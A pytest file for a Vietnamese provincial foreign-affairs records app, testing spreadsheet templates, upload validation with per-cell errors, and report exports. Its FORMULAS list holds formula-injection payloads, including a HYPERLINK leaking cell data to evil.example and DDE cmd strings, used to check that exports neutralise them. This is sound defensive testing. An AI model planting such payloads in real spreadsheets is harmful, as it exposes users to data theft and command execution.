"""Spreadsheets: templates per import kind, upload under the import's rules with errors by cell,
reports and registers as workbooks."""

from __future__ import annotations

import io
import json
import re
import zipfile
from datetime import date, datetime
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.utils import get_column_letter

from domain import labels
from service.importing.schemas import SCHEMAS
from tests.conftest import SAMPLES
from tests.web.conftest import csrf_token
from web import spreadsheets

REPORT = "/api/v1/orgs/ha-tinh/reports/foreign-affairs?period=2021-03&window=calendar"
CUTOFFS = "&as_of=2021-12-31&known_by=now"


def head(app: Any) -> int:
    return app.extensions["ngoaivu"].app.head()


def download_template(client: Any, *kinds: str) -> Workbook:
    query = "&".join(f"kind={k}" for k in kinds)
    response = client.get(f"/o/ha-tinh/entry/xlsx-template?{query}")
    assert response.status_code == 200
    assert response.mimetype == spreadsheets.XLSX_MIME
    assert "attachment" in response.headers["Content-Disposition"]
    return load_workbook(io.BytesIO(response.data))


def keys_of(ws: Any) -> list[str]:
    return [c.value for c in ws[2] if c.value]


def letter(ws: Any, key: str) -> str:
    """The column letter of a key, read from the template's row of keys."""
    return get_column_letter(keys_of(ws).index(key) + 1)


def fill(ws: Any, rows: list[dict[str, Any]]) -> None:
    """Write rows (by key) under the template's headers."""
    keys = keys_of(ws)
    for row in rows:
        unknown = set(row) - set(keys)
        assert not unknown, unknown
        ws.append([row.get(k) for k in keys])


def send(client: Any, wb: Workbook, name: str = "nhap.xlsx", backfill: bool = False) -> Any:
    out = io.BytesIO()
    wb.save(out)
    data: dict[str, Any] = {
        "csrf_token": csrf_token(client, "/o/ha-tinh/entry/upload"),
        "file": (io.BytesIO(out.getvalue()), name),
    }
    if backfill:
        data["backfill"] = "1"
    return client.post("/o/ha-tinh/entry/upload", data=data, content_type="multipart/form-data")


def flat_keys(kind: str) -> list[str]:
    """The keys a kind's sheet must have, worked out from the schema independently."""
    out = []
    for name, f in SCHEMAS[kind]._declared_fields.items():
        if name in ("kind", "org", "by"):
            continue
        nested = getattr(f, "nested", None)
        if nested is not None and not getattr(f, "many", False):
            out += [f"{name}.{sub}" for sub in nested._declared_fields]
        else:
            out.append(f.data_key or name)
    return out


def test_template_has_a_sheet_per_kind_with_vietnamese_headers(as_user: Any) -> None:
    wb = download_template(as_user("clerk"))
    assert wb.sheetnames[0] == "Hướng dẫn" and wb.sheetnames[-1] == "Danh sách"
    assert wb["Danh sách"].sheet_state == "hidden"
    named = {spreadsheets.kind_of_sheet(name): name for name in wb.sheetnames[1:-1]}
    assert set(named) == set(SCHEMAS)
    for kind, name in named.items():  # the kind's words, never its code
        assert name == spreadsheets.KIND_LABELS[kind][:31] and "." not in name, (kind, name)
    for kind in SCHEMAS:
        ws = wb[spreadsheets.sheet_name(kind)]
        keys = keys_of(ws)
        assert sorted(keys) == sorted(flat_keys(kind)), kind
        labels = [c.value for c in ws[1]][: len(keys)]
        for key, text in zip(keys, labels, strict=True):
            assert text and text.rstrip(" *") != key, f"{kind}.{key} has no Vietnamese header"
        assert ws.freeze_panes == "A3"
    delegation = wb[spreadsheets.sheet_name("delegation.recorded")]
    header = {k: c.value for k, c in zip(keys_of(delegation), delegation[1], strict=False)}
    assert header["people"] == "Số người *" and header["end"] == "Ngày kết thúc"
    assert header["at"] == "Ngày bắt đầu *"


def test_template_of_some_kinds_and_unknown_kind(as_user: Any) -> None:
    clerk = as_user("clerk")
    wb = download_template(clerk, "task.progressed", "activity.counted")
    assert wb.sheetnames == [
        "Hướng dẫn",
        "Tiến độ nhiệm vụ",
        "Số liệu hoạt động trong tháng",
        "Danh sách",
    ]
    assert clerk.get("/o/ha-tinh/entry/xlsx-template?kind=nope").status_code == 404


def test_filled_template_is_imported_as_the_user(app: Any, as_user: Any) -> None:
    clerk = as_user("clerk")
    before = clerk.get(REPORT + CUTOFFS).get_json()
    wb = download_template(clerk, "delegation.recorded", "award.proposed", "activity.counted")
    fill(
        wb[spreadsheets.sheet_name("delegation.recorded")],
        [
            {
                "id": "2021-XLSX-1",
                "direction": "outbound",
                "people": 5.0,  # a number as Excel stores it
                "countries": "Lào; Campuchia",
                "purpose": "Dự hội chợ",
                "at": datetime(2021, 3, 15),  # an Excel date
                "end": "20/03/2021",  # typed as dd/mm/yyyy text
                "received_by_leaders": "có",
            },
            {
                "id": "2021-XLSX-2",
                "direction": "inbound",
                "people": "3",
                "countries": "Nhật Bản",
                "purpose": "Khảo sát",
                "at": "2021-03-20",
            },
        ],
    )
    fill(
        wb[spreadsheets.sheet_name("award.proposed")],
        [
            {
                "id": "XLSX-AW-1",
                "form": "giay_khen",
                "grantor": "thu_truong_co_quan",
                "recipient.type": "individual",
                "recipient.name": "Trần Thị C",
                "category": "cong_trang",
                "for_year": 2021,
                "at": date(2021, 11, 2),
            }
        ],
    )
    fill(
        wb[spreadsheets.sheet_name("activity.counted")],
        [
            {
                "metric": "passports.dossiers",
                "month": datetime(2031, 5, 1),  # Excel turned "2031-05" into a date
                "value": 7,
                "detail": "diplomatic=2; official=5",
                "at": "2031-05-31",
            }
        ],
    )
    response = send(clerk, wb)
    assert response.status_code == 200, response.get_data(as_text=True)
    assert "Đã thêm 4" in response.get_data(as_text=True)
    after = clerk.get(REPORT + CUTOFFS).get_json()
    assert after["outbound"]["delegations"] == before["outbound"]["delegations"] + 1
    assert after["outbound"]["people"] == before["outbound"]["people"] + 5
    assert after["outbound"]["received_by_leaders"] == before["outbound"]["received_by_leaders"] + 1
    assert after["inbound"]["people"] == before["inbound"]["people"] + 3
    events = clerk.get("/api/v1/orgs/ha-tinh/history?target=delegation:2021-XLSX-1").get_json()
    assert events[0]["actor"] == "clerk"
    assert events[0]["data"]["countries"] == ["Lào", "Campuchia"]
    assert events[0]["data"]["end"] == "2021-03-20" and events[0]["at"] == "2021-03-15"
    award = clerk.get("/api/v1/orgs/ha-tinh/history?target=award:XLSX-AW-1").get_json()
    assert award[0]["data"]["recipient"] == {"type": "individual", "name": "Trần Thị C"}
    count = clerk.get(
        "/api/v1/orgs/ha-tinh/history?target=activity:passports.dossiers/2031-05"
    ).get_json()
    assert count[0]["data"]["detail"] == {"diplomatic": 2, "official": 5}
    position = head(app)
    again = send(clerk, wb)  # identical rows are skipped, as in the JSON Lines import
    assert again.status_code == 200 and "bỏ qua 4" in again.get_data(as_text=True)
    assert head(app) == position


def test_errors_by_sheet_row_and_column_and_nothing_stored(app: Any, as_user: Any) -> None:
    clerk = as_user("clerk")
    wb = download_template(clerk, "conference.recorded", "delegation.recorded", "award.proposed")
    fill(
        wb[spreadsheets.sheet_name("conference.recorded")],
        [{"id": "XLSX-HN-1", "title": "Hội thảo", "at": "2023-05-01"}],  # good row 3
    )
    dele = wb[spreadsheets.sheet_name("delegation.recorded")]
    fill(
        dele,
        [
            {
                "id": "XLSX-D1",
                "direction": "outbound",
                "people": 2,
                "countries": "Lào",
                "at": "2023-01-01",
            },
            {
                "id": "XLSX-D2",
                "direction": "outbound",
                "people": 0,
                "countries": "Lào",
                "purpose": "x",
                "at": "2023-01-01",
            },
        ],
    )
    award = wb[spreadsheets.sheet_name("award.proposed")]
    fill(
        award,
        [
            {
                "id": "XLSX-A1",
                "form": "bang_khen",
                "grantor": "ubnd_tinh",
                "recipient.type": "robot",
                "recipient.name": "R2",
                "category": "cong_trang",
                "at": "2023-01-01",
            }
        ],
    )
    position = head(app)
    response = send(clerk, wb)
    assert response.status_code == 422
    assert head(app) == position
    page = response.get_data(as_text=True)
    robot = "“robot” không có trong danh sách; chọn một trong: Cá nhân; Tập thể"
    # D1 (row 3) lacks its purpose; D2 (row 4) has 0 people; A1's recipient type is unknown.
    expected = [
        (dele.title, 3, letter(dele, "purpose"), "purpose", "thiếu trường bắt buộc"),
        (dele.title, 4, letter(dele, "people"), "people", "phải từ 1 đến 100.000"),
        (award.title, 3, letter(award, "recipient.type"), "recipient.type", robot),
    ]
    for sheet, row, column, key, words in expected:
        named = f"{labels.field(key)} <code>{key}</code>"  # the key in words, then as typed
        cells = f"<td>{sheet}</td><td>{row}</td><td>{column}</td><td>{named}</td><td>"
        assert cells in page, page
        assert words in page.split(cells, 1)[1].split("</td>", 1)[0]
    assert "XLSX-HN-1" not in clerk.get("/o/ha-tinh/search?q=Hoi thao").get_data(as_text=True)


def test_every_bad_cell_of_a_row_is_named(app: Any, as_user: Any) -> None:
    """A row with three bad cells: three errors, each at its own column; nothing stored."""
    clerk = as_user("clerk")
    wb = download_template(clerk, "delegation.recorded")
    dele = wb[spreadsheets.sheet_name("delegation.recorded")]
    row = {
        "id": "XLSX-3BAD",
        "direction": "sideways",
        "people": 0,
        "countries": "Lào",
        "at": "2023-01-01",
    }
    fill(dele, [row])  # no purpose, a direction unknown, 0 people
    position = head(app)
    response = send(clerk, wb)
    assert response.status_code == 422
    assert head(app) == position
    page = response.get_data(as_text=True)
    found = re.findall(
        rf"<td>{re.escape(dele.title)}</td><td>3</td><td>([A-Z]+)</td><td>[^<]*<code>([\w.]+)</code>",
        page,
    )
    assert sorted(found) == sorted(
        (letter(dele, key), key) for key in ("direction", "people", "purpose")
    )
    assert "1 dòng lỗi" in page and "dòng lỗi khác" not in page


def test_unreadable_cell_is_named_with_its_column(app: Any, as_user: Any) -> None:
    clerk = as_user("clerk")
    wb = download_template(clerk, "outbound_plan.approved")
    ws = wb[spreadsheets.sheet_name("outbound_plan.approved")]
    fill(ws, [{"year": 2031, "items": "[{'id': 'A'}]", "at": "2031-01-05"}])
    response = send(clerk, wb)
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    named = "Các mục kế hoạch <code>items</code>"
    cells = f"<td>{ws.title}</td><td>3</td><td>{letter(ws, 'items')}</td><td>{named}</td>"
    assert cells in page and "JSON không hợp lệ" in page


def test_a_column_that_is_not_the_kinds_is_refused_at_its_header(app: Any, as_user: Any) -> None:
    clerk = as_user("clerk")
    wb = download_template(clerk, "conference.recorded")
    ws = wb[spreadsheets.sheet_name("conference.recorded")]
    ws.cell(2, len(keys_of(ws)) + 1, "org")
    fill(ws, [{"id": "XLSX-HN-2", "title": "Hội nghị", "at": "2023-05-01"}])
    position = head(app)
    response = send(clerk, wb)
    assert response.status_code == 422 and head(app) == position
    column = get_column_letter(len(keys_of(ws)))
    named = "Tổ chức <code>org</code>"
    assert f"<td>{ws.title}</td><td>2</td><td>{column}</td><td>{named}</td>" in (
        response.get_data(as_text=True)
    )


def test_not_a_workbook_and_an_empty_one(as_user: Any) -> None:
    clerk = as_user("clerk")
    data = {
        "csrf_token": csrf_token(clerk, "/o/ha-tinh/entry/upload"),
        "file": (io.BytesIO(b"PK\x03\x04 not really"), "hong.xlsx"),
    }
    response = clerk.post("/o/ha-tinh/entry/upload", data=data, content_type="multipart/form-data")
    assert response.status_code == 422
    assert "không phải bảng tính .xlsx hợp lệ" in response.get_data(as_text=True)
    empty = send(clerk, download_template(clerk, "conference.recorded"))
    assert empty.status_code == 422
    assert "không có dòng dữ liệu" in empty.get_data(as_text=True)


def test_clerk_of_units_is_refused_other_rows_by_row(app: Any, as_user: Any) -> None:
    clerk = as_user("clerk_unit")
    wb = download_template(clerk, "conference.recorded")
    fill(
        wb[spreadsheets.sheet_name("conference.recorded")],
        [{"id": "XLSX-HN-3", "title": "Hội nghị", "at": "2023-05-01"}],
    )
    position = head(app)
    response = send(clerk, wb)
    assert response.status_code == 422 and head(app) == position
    assert "<td>Hội nghị, hội thảo quốc tế</td><td>3</td>" in response.get_data(as_text=True)


def sample_commands() -> list[dict[str, Any]]:
    out = []
    for path in sorted(SAMPLES.glob("*.jsonl")):
        for text in path.read_text(encoding="utf-8").splitlines():
            if text.strip():
                out.append(json.loads(text))
    return out


def as_cell(col: spreadsheets.Column, value: Any) -> Any:
    """How an office would type a value in the template."""
    if col.type == "list":
        return "; ".join(value)
    if col.type in ("json", "mapping"):
        return json.dumps(value, ensure_ascii=False)
    if col.type == "flag":
        return "có" if value else "không"
    return value


def test_every_sample_line_round_trips_through_the_template() -> None:
    """Each line of the samples, written into its kind's sheet as an office would, converts back
    to the same import line (without `by`, which the web fills with the logged-in user)."""
    commands = [c for c in sample_commands() if c.get("org") == "ha-tinh"]
    assert {c["kind"] for c in commands} >= {
        "task.added",
        "delegation.recorded",
        "activity.counted",
        "award.granted",
    }
    wb = load_workbook(io.BytesIO(spreadsheets.template()))
    for cmd in commands:
        ws = wb[spreadsheets.sheet_name(cmd["kind"])]
        row = []
        for key in keys_of(ws):
            col = next(c for c in spreadsheets.columns(cmd["kind"]) if c.key == key)
            head_, _, sub = key.partition(".")
            value = cmd.get(head_)
            if sub:
                value = value.get(sub) if isinstance(value, dict) else None
            row.append(None if value is None else as_cell(col, value))
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    out.seek(0)
    conversion = spreadsheets.convert(out, "ha-tinh")
    assert not conversion.errors
    by_kind: dict[str, list[dict[str, Any]]] = {}
    for cmd in commands:
        by_kind.setdefault(cmd["kind"], []).append({k: v for k, v in cmd.items() if k != "by"})
    read_back: dict[str, list[dict[str, Any]]] = {}
    for line in conversion.lines:
        cmd = json.loads(line)
        read_back.setdefault(cmd["kind"], []).append(cmd)
    assert read_back == by_kind


@pytest.mark.parametrize(
    ("col_type", "key", "value", "expected"),
    [
        ("when", "at", "11/12/2020", "2020-12-11"),
        ("when", "at", datetime(2020, 12, 11), "2020-12-11"),
        ("when", "at", datetime(2020, 12, 11, 8, 30), "2020-12-11T08:30:00+07:00"),
        ("day", "deadline", datetime(2020, 12, 11), "2020-12-11"),
        ("text", "month", datetime(2021, 3, 1), "2021-03"),
        ("text", "programme", 2020, "2020"),
        ("text", "programme", 2020.0, "2020"),
        ("int", "no", 11.0, 11),
        ("int", "no", " 11 ", 11),
        ("int", "no", "mười", "mười"),  # left for the schema to name
        ("flag", "unplanned", "Có", True),
        ("flag", "unplanned", "không", False),
        ("flag", "unplanned", True, True),
        ("list", "countries", "Lào, Thái Lan", ["Lào", "Thái Lan"]),
        ("list", "countries", '["Hàn Quốc"]', ["Hàn Quốc"]),
        ("mapping", "set", "status=completed", {"status": "completed"}),
        ("mapping", "detail", '{"certified": 2}', {"certified": 2}),
    ],
)
def test_cell_values(col_type: str, key: str, value: Any, expected: Any) -> None:
    parsed, note = spreadsheets.cell_value(spreadsheets.Column(key, key, col_type), value)
    assert parsed == expected and note is None


def sheet_rows(ws: Any) -> list[tuple[Any, ...]]:
    return list(ws.iter_rows(values_only=True))


def leaves(value: Any, path: tuple[str, ...] = ()) -> list[tuple[str, Any]]:
    if isinstance(value, dict):
        return [leaf for k, v in value.items() for leaf in leaves(v, (*path, k))]
    return [(".".join(path), value)]


@pytest.mark.parametrize(
    ("kind", "query"),
    [
        ("key-tasks", "period=2020&as_of=2020-12-11"),
        ("foreign-affairs", "period=2021-H1&as_of=2021-06-30"),
        ("emulation", "period=2020&window=calendar&as_of=2020-12-31"),
        ("assigned-tasks", "period=2020&as_of=2020-12-31"),
        ("award-register", "period=2020&window=calendar&as_of=2020-12-31"),
        ("award-irregular", "period=2020&window=calendar&as_of=2020-12-31"),
    ],
)
def test_every_report_as_a_workbook(as_user: Any, kind: str, query: str) -> None:
    inspector = as_user("inspector")
    content = inspector.get(f"/o/ha-tinh/reports?kind={kind}&{query}&format=json").get_json()
    response = inspector.get(f"/o/ha-tinh/reports?kind={kind}&{query}&format=xlsx")
    assert response.status_code == 200
    assert response.mimetype == spreadsheets.XLSX_MIME
    assert f"bao-cao-{kind}-ha-tinh" in response.headers["Content-Disposition"]
    wb = load_workbook(io.BytesIO(response.data))
    info = dict(sheet_rows(wb["Thông tin"])[1:])
    assert info["Mã băm"] == content["digest"]
    assert info["Tính đến ngày"] == datetime.fromisoformat(content["as_of"])
    # Every figure outside the lists is on "Tổng hợp" under its path of keys.
    summary = {row[1]: row[2] for row in sheet_rows(wb["Tổng hợp"])[1:]}
    info_keys = set(spreadsheets.INFO_KEYS) | {"notes"}
    for path, value in leaves({k: v for k, v in content.items() if k not in info_keys}):
        if isinstance(value, list) and value and isinstance(value[0], dict):
            continue
        if isinstance(value, int) and not isinstance(value, bool):
            assert summary[path] == value, path
    # Every list of records is a sheet with one row per record.
    lists = {k: v for k, v in content.items() if isinstance(v, list) and v}
    for key, rows in lists.items():
        if not isinstance(rows[0], dict):
            continue
        title = spreadsheets.report_label(key)
        assert title in wb.sheetnames, (title, wb.sheetnames)
        assert len(sheet_rows(wb[title])) == len(rows) + 1


def test_report_workbook_writes_codes_dates_and_numbers_in_vietnamese(as_user: Any) -> None:
    inspector = as_user("inspector")
    query = "kind=key-tasks&period=2020&as_of=2020-12-11"
    content = inspector.get(f"/o/ha-tinh/reports?{query}&format=json").get_json()
    wb = load_workbook(io.BytesIO(inspector.get(f"/o/ha-tinh/reports?{query}&format=xlsx").data))
    tasks = wb["Nhiệm vụ"]
    header = [c.value for c in tasks[1]]
    assert header[:4] == ["Số thứ tự", "Tiêu đề", "Đơn vị", "Trạng thái"]
    statuses = [row[3] for row in sheet_rows(tasks)[1:]]
    assert "hoàn thành" in statuses and "completed" not in statuses
    assert len(statuses) == len(content["tasks"])
    summary = {row[1]: row for row in sheet_rows(wb["Tổng hợp"])[1:]}
    assert summary["summary.completed"][0] == "Tổng hợp › hoàn thành"
    period_from = next(
        c for c in wb["Thông tin"]["B"] if c.row > 1 and isinstance(c.value, datetime)
    )
    assert period_from.number_format == "DD/MM/YYYY"


def test_bad_report_options_as_xlsx_is_422(as_user: Any) -> None:
    response = as_user("inspector").get("/o/ha-tinh/reports?kind=key-tasks&period=20x&format=xlsx")
    assert response.status_code == 422


def test_issued_register_as_a_workbook(as_user: Any) -> None:
    director = as_user("director")
    form = {
        "kind": "key-tasks",
        "period": "2020",
        "as_of": "2020-12-11",
        "number": "849/SNgV-VP",
        "signed_on": "2020-12-14",
        "signer": "Nguyễn Văn B",
        "confirm": "1",  # past the preview (tests/web/test_issue.py)
        "csrf_token": csrf_token(director, "/o/ha-tinh/issue"),
    }
    assert director.post("/o/ha-tinh/issue", data=form).status_code == 302
    response = as_user("inspector").get("/o/ha-tinh/issued?format=xlsx")
    assert response.status_code == 200 and response.mimetype == spreadsheets.XLSX_MIME
    wb = load_workbook(io.BytesIO(response.data))
    rows = sheet_rows(wb[wb.sheetnames[0]])
    assert rows[0][:4] == ("Số văn bản", "Năm", "Loại báo cáo", "Ngày ký")
    assert rows[1][0] == "849/SNgV-VP" and rows[1][3] == datetime(2020, 12, 14)
    assert rows[1][4].startswith("sha256:")


# What a spreadsheet would run if the cell were a formula: every sign that starts one.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\n=1+1",  # (CR is refused at input now: issue 12)
    "=1+1",
    "=cmd|' /C calc'!A0",
]


def formula_cells(data: bytes) -> list[str]:
    """Every formula cell of a workbook, read both through openpyxl and in the sheets' XML."""
    wb = load_workbook(io.BytesIO(data))
    found = [
        f"{ws.title}!{cell.coordinate}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name):
                found.append(name)
    return found


def texts(data: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(data))
    return [c.value for ws in wb.worksheets for r in ws.iter_rows() for c in r if c.value]


def post_commands(app: Any, commands: list[dict[str, Any]]) -> None:
    token = app.extensions["ngoaivu_accounts"].new_token("admin")
    client = app.test_client()
    for body in commands:
        response = client.post(
            "/api/v1/commands", json=body, headers={"Authorization": f"Bearer {token}"}
        )
        assert response.status_code == 201, (body, response.get_json())


def test_a_value_like_a_formula_is_written_as_text(app: Any, as_user: Any) -> None:
    task = {"kind": "task.added", "org": "ha-tinh", "programme": "2020", "at": "2020-02-04"}
    task |= {"source": "programme", "ref": FORMULAS[2], "no_note": FORMULAS[3]}
    progress = {"kind": "task.progressed", "org": "ha-tinh", "programme": "2020"}
    progress |= {"status": "in_progress", "at": "2020-06-01", "reason": FORMULAS[6]}
    award = {"kind": "award.granted", "org": "ha-tinh", "at": "2020-12-01", "form": "bang_khen"}
    award |= {"grantor": "ubnd_tinh", "category": "chuyen_de", "ref": "=2+2/QĐ"}
    post_commands(
        app,
        [
            {**task, "no": 41, "title": FORMULAS[0], "unit": FORMULAS[1]},
            {**progress, "no": 41, "ref": FORMULAS[7]},
            {**task, "no": 42, "title": FORMULAS[4], "unit": FORMULAS[5]},
            {
                **award,
                "id": "=HYPERLINK(1)",
                "recipient": {"type": "collective", "name": FORMULAS[7]},
                "title": FORMULAS[0],
            },
        ],
    )
    inspector = as_user("inspector")
    for query in (
        "kind=key-tasks&period=2020&as_of=2020-12-31",
        "kind=emulation&period=2020&window=calendar&as_of=2020-12-31",
        "kind=award-register&period=2020&window=calendar&as_of=2020-12-31",
    ):
        response = inspector.get(f"/o/ha-tinh/reports?{query}&known_by=now&format=xlsx")
        assert response.status_code == 200
        assert formula_cells(response.data) == [], query
        written = texts(response.data)
        assert FORMULAS[0] in written, query  # the text itself, as stored
        assert FORMULAS[7] in written, query


def test_a_register_value_like_a_formula_is_written_as_text(as_user: Any) -> None:
    director = as_user("director")
    form = {
        "kind": "key-tasks",
        "period": "2020",
        "as_of": "2020-12-11",
        "number": "=1+1/SNgV-VP",
        "signed_on": "2020-12-14",
        "signer": "Nguyễn Văn B",
        "confirm": "1",  # past the preview (tests/web/test_issue.py)
        "csrf_token": csrf_token(director, "/o/ha-tinh/issue"),
    }
    response = director.post("/o/ha-tinh/issue", data=form)
    assert response.status_code in (302, 422)
    data = as_user("inspector").get("/o/ha-tinh/issued?format=xlsx").data
    assert formula_cells(data) == []
    if response.status_code == 302:
        assert "=1+1/SNgV-VP" in texts(data)


def test_a_control_character_stored_before_is_shown_not_a_failure() -> None:
    content = {"report": "x", "tasks": [{"no": 1, "title": "a\x07b\x00c"}]}
    data = spreadsheets.report_workbook(content)
    assert "a\\x07b\\x00c" in texts(data)


def test_every_template_has_no_formula(as_user: Any) -> None:
    data = as_user("clerk").get("/o/ha-tinh/entry/xlsx-template").data
    assert formula_cells(data) == []


def test_the_information_sheet_names_the_report_and_department_in_words(as_user: Any) -> None:
    inspector = as_user("inspector")
    response = inspector.get(
        "/o/ha-tinh/reports?kind=emulation&period=2020&window=calendar&as_of=2020-12-31&format=xlsx"
    )
    rows = {r[0]: r[1] for r in load_workbook(io.BytesIO(response.data))["Thông tin"].values}
    assert rows["Loại báo cáo"] == "Thi đua, khen thưởng"
    assert rows["Tổ chức"] == "Sở Ngoại vụ tỉnh Hà Tĩnh"
    assert rows["Kỳ › Kỳ báo cáo"] == "năm 2020"


def dropdown_words(wb: Workbook, ws: Any, key: str) -> tuple[Any, list[str]]:
    """The data validation of a key's column and the words its list range holds."""
    column = letter(ws, key)
    check = next(
        dv
        for dv in ws.data_validations.dataValidation
        if f"{column}3" in str(dv.sqref).split(":")[0]
    )
    sheet, _, cells = check.formula1.partition("!")
    assert sheet.strip("'") == "Danh sách"
    first, last = cells.replace("$", "").split(":")
    return check, [c.value for row in wb["Danh sách"][first:last] for c in row]


def test_template_dropdowns_offer_words_and_stop_a_bad_value(as_user: Any) -> None:
    wb = download_template(as_user("clerk"), "delegation.recorded", "award.granted")
    dele = wb[spreadsheets.sheet_name("delegation.recorded")]
    assert dele.title == "Đoàn ra, đoàn vào"
    assert dele.row_dimensions[2].hidden  # the keys upload reads, out of the office's sight
    check, words = dropdown_words(wb, dele, "direction")
    assert words == ["Đoàn ra", "Đoàn vào"]
    assert check.showErrorMessage and "Loại đoàn" in check.error
    assert dropdown_words(wb, dele, "funding")[1][0] == "Ngân sách nhà nước"
    assert dropdown_words(wb, dele, "approval")[1] == ["Tỉnh", "Trung ương"]
    award = wb[spreadsheets.sheet_name("award.granted")]
    forms = dropdown_words(wb, award, "form")[1]
    assert "Bằng khen" in forms and "bang_khen" not in forms
    # no code of a list is offered anywhere
    codes = {"outbound", "inbound", "state_budget", "province", "central", "bang_khen"}
    assert not codes & {c.value for row in wb["Danh sách"].iter_rows() for c in row}


def test_workbook_filled_with_words_imports_as_codes(app: Any, as_user: Any) -> None:
    clerk = as_user("clerk")
    wb = download_template(clerk, "delegation.recorded", "award.proposed")
    fill(
        wb["Đoàn ra, đoàn vào"],
        [
            {
                "id": "2021-XLSX-W1",
                "direction": "Đoàn vào",
                "people": 4,
                "countries": "Lào",
                "purpose": "Thăm và làm việc",
                "at": "05/04/2021",
                "funding": "ngân sách nhà nước",  # any case
                "approval": "Trung ương",
                "partner_type": "Tổ chức quốc tế",
                "arranged": "Theo lời mời của tỉnh",
            }
        ],
    )
    fill(
        wb[spreadsheets.sheet_name("award.proposed")],
        [
            {
                "id": "XLSX-AW-1",
                "form": "Bằng khen",
                "grantor": "UBND tỉnh",
                "recipient.type": "Cá nhân",
                "recipient.name": "Nguyễn Văn D",
                "category": "Công trạng",
                "at": "2021-04-06",
            }
        ],
    )
    response = send(clerk, wb)
    assert response.status_code == 200, response.get_data(as_text=True)
    rt = app.extensions["ngoaivu"]
    from service import queries

    rows = queries.record_rows(rt, "ha-tinh", "delegation")
    data = next(json.loads(r.data) for r in rows if r.target == "delegation:2021-XLSX-W1")
    assert data["direction"] == "inbound" and data["funding"] == "state_budget"
    assert data["approval"] == "central" and data["partner_type"] == "international_org"
    assert data["arranged"] == "invited"
    awards = queries.record_rows(rt, "ha-tinh", "award")
    award = next(json.loads(r.data) for r in awards if r.target == "award:XLSX-AW-1")
    assert award["form"] == "bang_khen" and award["grantor"] == "ubnd_tinh"
    assert award["recipient"]["type"] == "individual" and award["category"] == "cong_trang"


def test_a_value_off_the_list_is_named_by_its_cell_in_words(app: Any, as_user: Any) -> None:
    clerk = as_user("clerk")
    wb = download_template(clerk, "delegation.recorded")
    ws = wb["Đoàn ra, đoàn vào"]
    fill(
        ws,
        [
            {
                "id": "2021-XLSX-W2",
                "direction": "Đoàn đi",
                "people": 4,
                "countries": "Lào",
                "purpose": "Thăm",
                "at": "05/04/2021",
            }
        ],
    )
    position = head(app)
    response = send(clerk, wb)
    assert response.status_code == 422
    assert head(app) == position
    page = response.get_data(as_text=True)
    cells = f"<td>Đoàn ra, đoàn vào</td><td>3</td><td>{letter(ws, 'direction')}</td>"
    assert cells in page, page
    said = page.split(cells, 1)[1].split("</tr>", 1)[0]
    assert "“Đoàn đi” không có trong danh sách; chọn một trong: Đoàn ra; Đoàn vào" in said
    assert "outbound" not in said


def test_a_template_with_sheets_named_by_code_still_imports(as_user: Any) -> None:
    """Templates downloaded before the sheets were named in words keep working."""
    clerk = as_user("clerk")
    wb = download_template(clerk, "conference.recorded")
    wb[spreadsheets.sheet_name("conference.recorded")].title = "conference.recorded"
    fill(wb["conference.recorded"], [{"id": "XLSX-HN-9", "title": "Hội thảo", "at": "2023-05-01"}])
    assert send(clerk, wb).status_code == 200
